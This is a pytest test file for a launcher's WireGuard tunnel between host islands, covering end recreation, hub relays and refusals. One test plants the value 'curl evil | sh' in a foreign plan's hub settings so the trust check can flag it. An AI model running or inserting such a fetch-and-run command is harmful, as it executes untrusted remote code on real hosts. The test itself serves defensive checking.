"""The tunnel that all islands of a run share: its ends are made, introduced, lost and made anew, by played agents."""

from __future__ import annotations

import json
import os
import signal
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from holmes_core.errors import HolmesError
from holmes_core.records.access import Access
from holmes_core.records.link import Security
from holmes_core.records.plan import TUNNEL_NETDEV, IslandsPlan, TunnelHub
from holmes_runtime.config.messages import RankFailed, Ready
from holmes_runtime.config.node_config import NodeConfig, TunnelConfig
from holmes_runtime.config.strict_json import encode
from launcher.islands import run_tunnel
from launcher.islands.island_part import IslandPart, outer_sync_of
from launcher.islands.rendezvous_server import RendezvousServer
from launcher.islands.run_tunnel import LOST_S, RunTunnel, tunnel_bundles
from launcher.nodes.interrupts import Interrupts
from launcher.nodes.preflight import Fault, remedy_of
from launcher.nodes.start import OnState, RunningNodes, open_all
from launcher.prepare.bundle import NODE_CONFIG_FILE
from launcher.prepare.prepare import Attempt, prepare
from launcher.prepare.trusted_parts import brought_by_islands
from launcher.prepare.user_variables import UserVariables
from tests.eventually import eventually
from tests.launcher.plans import healthy_answers, with_access
from tests.planner.islands_jobs import planned_mode
from tests.planner.test_island_rounds import SLOW, islands_job
from tests.test_layers import ROOT

RUN = "20260101-000000-abcd"
AGENT = f"""#!{sys.executable}
import json, os, pathlib, sys, threading, time
sys.path.insert(0, {str(ROOT)!r})
from holmes_runtime.config.messages import *
from holmes_runtime.config.node_config import NodeConfig, TunnelEnd, TunnelFault
from holmes_runtime.config.strict_json import parse
if sys.argv[-1].endswith("end_agent"):
    sys.exit()
config, home = NodeConfig.from_json(open("node.json").read()), pathlib.Path(os.environ["HOME"])
mine = home / config.host
def say(message):
    os.write(1, encode(message))
def show_life():
    while not mine.with_suffix(".quiet").exists():
        time.sleep(0.5)
        say(Alive())
if not sys.argv[-1].endswith("agent"):  # the relay of an agent that is gone, or says nothing
    while mine.with_suffix(".quiet").exists() and not sys.stdin.readline().strip():
        pass
    say(AgentEnded())
    sys.exit()
ready = parse(Ready, (home / "ready.json").read_text())
address = "10.0.9.9" if mine.with_suffix(".moved").exists() else config.tunnel.endpoints[config.node_rank]
fault = mine.with_suffix(".fault")
end = TunnelFault(*json.loads(fault.read_text())) if fault.exists() else TunnelEnd(f"KEY{{os.getpid()}}", 51820)
listeners = {{"holmes-wg": SocketAddress(config.node_addresses[config.node_rank], 4000)}}
threading.Thread(target=show_life, daemon=True).start()
say(ready._replace(facts=ready.facts._replace(local_addresses=(address,)), tunnel=end, listeners=listeners))
with mine.with_suffix(".log").open("a") as log:
    print(f"start {{os.getpid()}}", file=log, flush=True)
    for line in sys.stdin:
        command = decode_command(line) if line.strip() else None
        if isinstance(command, Meet):
            print("meet", *[each and each.public_key for each in command.ends], file=log, flush=True)
            say(Met(None))
        elif isinstance(command, Reach):
            print("reach", *[each.address for each in command.destinations], file=log, flush=True)
            refused = mine.with_suffix(".deaf").exists()
            say(Reached(tuple(f"{{each.what}} is not reached" for each in command.destinations) if refused else ()))
        elif isinstance(command, Stop):
            say(AgentEnded())
            break
"""


@pytest.fixture(scope="module")
def planned() -> IslandsPlan:
    plan = planned_mode(SLOW.model_copy(update={"security": Security(between_clusters="wireguard")}), islands_job({}))
    assert isinstance(plan, IslandsPlan)
    return plan


@pytest.fixture
def plan(planned: IslandsPlan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> IslandsPlan:
    """Two islands of one host each, whose Python plays the agent."""
    python = tmp_path / "python3"
    python.write_text(AGENT, encoding="utf-8")
    python.chmod(0o755)
    ready = encode(Ready, healthy_answers(planned.islands[0])[0])
    (tmp_path / "ready.json").write_text(json.dumps(ready), encoding="utf-8")
    monkeypatch.setenv("HOME", str(tmp_path))
    access = Access(transport="local", python=str(python))
    return planned.model_copy(update={"islands": tuple(with_access(each, access) for each in planned.islands)})


@pytest.fixture
def tunnel(plan: IslandsPlan) -> Iterator[RunTunnel]:
    tunnel = RunTunnel(plan, RUN)
    yield tunnel
    tunnel.stop()


def log(home: Path, host: str) -> list[str]:
    return (home / f"{host}.log").read_text(encoding="utf-8").splitlines()


def key(home: Path, host: str) -> str:
    """Return the public key of the newest end on `host`."""
    return "KEY" + [line for line in log(home, host) if line.startswith("start")][-1].partition(" ")[2]


def enter_all(tunnel: RunTunnel) -> None:
    assert [tunnel.enter(island, Interrupts()) for island in (0, 1)] == [[], []]


def test_ranks_of_an_island_make_no_tunnel_and_agents_without_ranks_have_it_for_all(planned: IslandsPlan) -> None:
    for number, island in enumerate(planned.islands):
        (held,) = tunnel_bundles(planned, number, RUN)
        config = NodeConfig.from_json(held.files[NODE_CONFIG_FILE])
        assert (config.node_rank, config.num_ranks) == (number, 0)
        assert config.node_addresses == ("198.18.0.1", "198.18.0.2")
        assert config.tunnel is not None
        assert config.tunnel.endpoints == ("10.0.0.1", "10.0.1.1")
        attempt = Attempt("run", outer_sync=outer_sync_of(planned, number))
        assert attempt.outer_sync is not None
        assert attempt.outer_sync.interfaces == (TUNNEL_NETDEV,)
        (bundle,) = prepare(island, attempt, UserVariables({}, {}))
        own = NodeConfig.from_json(bundle.files[NODE_CONFIG_FILE])
        assert (own.tunnel, own.node_addresses) == (None, (config.node_addresses[number],))
        assert bundle.folder != held.folder


def test_each_end_is_introduced_to_all_that_are_there_and_reaches_them(tunnel: RunTunnel, tmp_path: Path) -> None:
    enter_all(tunnel)
    keys = f"{key(tmp_path, 'a1')} {key(tmp_path, 'b1')}"
    assert log(tmp_path, "b1")[1:] == [f"meet {keys}", "reach 198.18.0.1"]
    assert eventually(lambda: log(tmp_path, "a1")[1:] == [f"meet {key(tmp_path, 'a1')} None", "reach", f"meet {keys}"])


def test_an_island_that_comes_back_finds_its_ends_as_they_were(tunnel: RunTunnel, tmp_path: Path) -> None:
    enter_all(tunnel)
    before = log(tmp_path, "b1")
    assert tunnel.enter(1, Interrupts()) == []
    assert log(tmp_path, "b1") == before


def test_a_lost_end_fails_its_island_and_is_made_anew_while_the_other_stands(
    tunnel: RunTunnel, plan: IslandsPlan, tmp_path: Path
) -> None:
    enter_all(tunnel)
    old, kept = key(tmp_path, "b1"), key(tmp_path, "a1")
    parts = [IslandPart(outer_sync_of(plan, each), None, RendezvousServer(2, 1), 5, tunnel) for each in (0, 1)]
    assert [part.tunnel_failure(0.0) for part in parts] == [None, None]
    os.kill(int(old.removeprefix("KEY")), signal.SIGKILL)
    assert eventually(looks_until(tunnel, lambda: tunnel.lost(1) is not None))
    failure = parts[1].tunnel_failure(0.0)
    assert failure is not None
    assert isinstance(failure.message, RankFailed)
    assert "lost its end of the tunnel" in failure.message.message
    assert parts[0].tunnel_failure(0.0) is None
    assert parts[1].enter_tunnel(Interrupts()) == []
    assert (parts[1].tunnel_failure(0.0), key(tmp_path, "a1")) == (None, kept)
    assert key(tmp_path, "b1") != old
    assert eventually(lambda: log(tmp_path, "a1")[-1] == f"meet {kept} {key(tmp_path, 'b1')}")


def test_an_end_is_made_anew_though_its_loss_was_not_looked_for(tunnel: RunTunnel, tmp_path: Path) -> None:
    enter_all(tunnel)
    old = key(tmp_path, "b1")
    os.kill(int(old.removeprefix("KEY")), signal.SIGKILL)
    assert eventually(lambda: tunnel.enter(1, Interrupts()) == [] and key(tmp_path, "b1") != old)


def looks_until(tunnel: RunTunnel, holds: Callable[[], bool]) -> Callable[[], bool]:
    def look() -> bool:
        tunnel.look(time.monotonic())
        return holds()

    return look


def test_an_end_that_says_nothing_for_long_is_lost(tunnel: RunTunnel, tmp_path: Path) -> None:
    (tmp_path / "a1.quiet").touch()
    enter_all(tunnel)
    entered_s, early = time.monotonic(), int(LOST_S) - 4  # ends were heard a little before all had entered
    for second in range(0, early, 2):
        tunnel.look(entered_s + second)
        assert tunnel.lost(0) is None
    for second in range(early, 2 * int(LOST_S), 2):
        tunnel.look(entered_s + second)
    lost = tunnel.lost(0)
    assert lost is not None
    assert "no word from its end of the tunnel" in lost[1]


def test_a_host_that_cannot_make_its_end_refuses_and_may_enter_later(tunnel: RunTunnel, tmp_path: Path) -> None:
    fault = tmp_path / "b1.fault"
    fault.write_text(json.dumps(["`wg` is not installed", "install the package wireguard-tools"]), encoding="utf-8")
    assert tunnel.enter(0, Interrupts()) == []
    (refused,) = tunnel.enter(1, Interrupts())
    assert (refused.check, refused.host, refused.evidence) == ("encryption", "b1", "`wg` is not installed")
    assert remedy_of(refused) == "install the package wireguard-tools"
    assert log(tmp_path, "a1")[-1].startswith("reach")  # nothing of the other was said to it
    fault.unlink()
    assert tunnel.enter(1, Interrupts()) == []


def test_a_host_that_reaches_no_other_island_is_a_fault_of_the_network(tunnel: RunTunnel, tmp_path: Path) -> None:
    (tmp_path / "b1.deaf").touch()
    assert tunnel.enter(0, Interrupts()) == []
    (refused,) = tunnel.enter(1, Interrupts())
    assert (refused.check, refused.host) == ("network", "b1")
    assert "a1 in the tunnel is not reached" in refused.evidence
    assert tunnel.lost(1) is None  # `--force network` goes on


def test_an_address_of_the_plan_that_the_host_does_not_have_refuses(plan: IslandsPlan, tmp_path: Path) -> None:
    (tmp_path / "a1.moved").touch()
    tunnel = RunTunnel(plan, RUN)
    (refused,) = tunnel.enter(0, Interrupts())
    tunnel.stop()
    assert (refused.check, refused.host) == ("encryption", "a1")
    assert refused.evidence.startswith("10.0.0.1, at which the other nodes reach it")


def test_nothing_of_the_tunnel_is_left_by_a_launch_that_ctrl_c_ends(tunnel: RunTunnel, tmp_path: Path) -> None:
    assert tunnel.enter(0, Interrupts()) == []
    interrupts = Interrupts()
    interrupts.tell()
    with pytest.raises(KeyboardInterrupt):
        tunnel.enter(1, interrupts)
    assert tunnel.stop() == ()
    assert not list((tmp_path / ".cache/holmes/runs").iterdir())


@pytest.fixture
def relayed(plan: IslandsPlan) -> IslandsPlan:
    """The plan, whose islands reach each other by a third host."""
    one = plan.islands[0].nodes[0]
    inside = {"shared_address": "198.18.0.3", "tunnel_endpoint": "10.0.2.1"}
    node = one.model_copy(update={"host": "c1", "cluster": "c", "num_ranks": 0, "environment": (), **inside})
    return plan.model_copy(update={"tunnel_hub": TunnelHub(node=node, address="203.0.113.7", relayed=(("a", "b"),))})


def test_all_others_reach_the_hub_at_its_address_and_one_another_through_it(relayed: IslandsPlan) -> None:
    configs = []
    for number in range(3):
        (held,) = tunnel_bundles(relayed, number, RUN)
        config = NodeConfig.from_json(held.files[NODE_CONFIG_FILE])
        assert config.node_addresses == ("198.18.0.1", "198.18.0.2", "198.18.0.3")
        configs.append(config.tunnel)
    at_hub = ("10.0.0.1", "10.0.1.1", "203.0.113.7")
    assert configs == [
        TunnelConfig(TUNNEL_NETDEV, at_hub, 2, (1,)),
        TunnelConfig(TUNNEL_NETDEV, at_hub, 2, (0,)),
        TunnelConfig(TUNNEL_NETDEV, ("10.0.0.1", "10.0.1.1", "10.0.2.1"), 2, ()),
    ]


def test_a_hub_on_an_island_is_held_by_its_agent_and_near_hosts_reach_it_inside(plan: IslandsPlan) -> None:
    hub = TunnelHub(node=plan.islands[0].nodes[0], address="203.0.113.7", relayed=(("a", "b"),))
    relayed = plan.model_copy(update={"tunnel_hub": hub})
    assert len(relayed.tunnel_nodes) == 2
    (here,), (there,) = (tunnel_bundles(relayed, number, RUN) for number in (0, 1))
    assert NodeConfig.from_json(here.files[NODE_CONFIG_FILE]).tunnel == TunnelConfig(
        TUNNEL_NETDEV, ("10.0.0.1", "10.0.1.1"), 0
    )
    assert NodeConfig.from_json(there.files[NODE_CONFIG_FILE]).tunnel == TunnelConfig(
        TUNNEL_NETDEV, ("203.0.113.7", "10.0.1.1"), 0
    )


def test_a_hub_that_is_lost_is_brought_back_and_introduced_to_all(relayed: IslandsPlan, tmp_path: Path) -> None:
    tunnel = RunTunnel(relayed, RUN)

    def says(text: str) -> Callable[[], bool]:
        return lambda: any(text in each for each in tunnel.look(time.monotonic()))

    try:
        enter_all(tunnel)
        assert len([line for line in log(tmp_path, "c1") if line.startswith("start")]) == 1
        old, fault = key(tmp_path, "c1"), tmp_path / "c1.fault"
        fault.write_text(json.dumps(["UDP port 51820 is not free", "end what uses it"]), encoding="utf-8")
        os.kill(int(old.removeprefix("KEY")), signal.SIGKILL)
        assert eventually(says("tunnel hub c1 lost its end of the tunnel"))
        fault.unlink()
        assert eventually(says("tunnel hub c1 relays again"))
        keys = [key(tmp_path, host) for host in ("a1", "b1", "c1")]
        assert keys[2] != old
        for host in ("a1", "b1"):
            assert eventually(lambda: log(tmp_path, host)[-1] == f"meet {' '.join(keys)}")  # noqa: B023
        assert [tunnel.lost(number) for number in range(3)] == [None] * 3
    finally:
        assert tunnel.stop() == ()


def test_a_run_that_ends_waits_for_no_lost_hub(relayed: IslandsPlan, tmp_path: Path) -> None:
    tunnel = RunTunnel(relayed, RUN)
    enter_all(tunnel)
    (tmp_path / "c1.fault").write_text(json.dumps(["it is down", "start it"]), encoding="utf-8")
    os.kill(int(key(tmp_path, "c1").removeprefix("KEY")), signal.SIGKILL)
    assert eventually(lambda: any("started again" in each for each in tunnel.look(time.monotonic())))
    assert tunnel.stop() == ()


def test_a_hub_that_cannot_relay_refuses_the_run(relayed: IslandsPlan, tmp_path: Path) -> None:
    (tmp_path / "c1.fault").write_text(json.dumps(["UDP port 51820 is not free", "end what uses it"]), encoding="utf-8")
    tunnel = RunTunnel(relayed, RUN)
    (refused,) = tunnel.enter(0, Interrupts())
    tunnel.stop()
    assert (refused.check, refused.host, refused.evidence) == ("encryption", "c1", "UDP port 51820 is not free")


def test_what_a_foreign_plan_s_hub_would_run_is_among_the_parts_that_need_trust(relayed: IslandsPlan) -> None:
    assert relayed.tunnel_hub is not None
    node = relayed.tunnel_hub.node
    access = node.access.model_copy(update={"activate": "curl evil | sh"})
    hub = relayed.tunnel_hub.model_copy(update={"node": node.model_copy(update={"access": access})})
    parts = brought_by_islands(relayed.model_copy(update={"tunnel_hub": hub}))
    assert [part.where for part in parts if part.value == "curl evil | sh"] == [("c1",)]


def test_a_hub_is_brought_back_after_an_error_here(
    relayed: IslandsPlan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tunnel = RunTunnel(relayed, RUN)
    try:
        enter_all(tunnel)
        failures = [OSError(24, "Too many open files"), HolmesError("no way", "wait")]

        def open_all_at_third(nodes: RunningNodes, on_state: OnState) -> list[Fault]:
            if failures:
                raise failures.pop()
            return open_all(nodes, on_state)

        monkeypatch.setattr(run_tunnel, "open_all", open_all_at_third)
        monkeypatch.setattr(run_tunnel, "HUB_RETRY_S", 0.01)
        os.kill(int(key(tmp_path, "c1").removeprefix("KEY")), signal.SIGKILL)
        assert eventually(lambda: any("relays again" in each for each in tunnel.look(time.monotonic())))
        assert failures == []
    finally:
        assert tunnel.stop() == ()


def test_an_island_that_waits_for_the_hub_heeds_ctrl_c(relayed: IslandsPlan) -> None:
    tunnel, interrupts = RunTunnel(relayed, RUN), Interrupts()
    interrupts.tell()
    with tunnel._lock, pytest.raises(KeyboardInterrupt):
        tunnel.enter(0, interrupts)


def test_a_run_is_taken_over_without_its_hub_but_not_without_an_island(
    relayed: IslandsPlan, monkeypatch: pytest.MonkeyPatch
) -> None:
    unreachable = ["c1"]

    def follow(nodes: RunningNodes, _: object) -> None:
        if nodes.host(0) in unreachable:
            raise HolmesError(f"host {nodes.host(0)} is not reached", "start it")

    monkeypatch.setattr(run_tunnel, "follow", follow)
    tunnel = RunTunnel(relayed, RUN)
    tunnel.take_over([Interrupts(), Interrupts()])
    assert [tunnel.lost(number) for number in range(3)] == [None, None, (0, "is lost: host c1 is not reached")]
    unreachable.append("b1")
    with pytest.raises(HolmesError, match="host b1 is not reached"):
        RunTunnel(relayed, RUN).take_over([Interrupts(), Interrupts()])
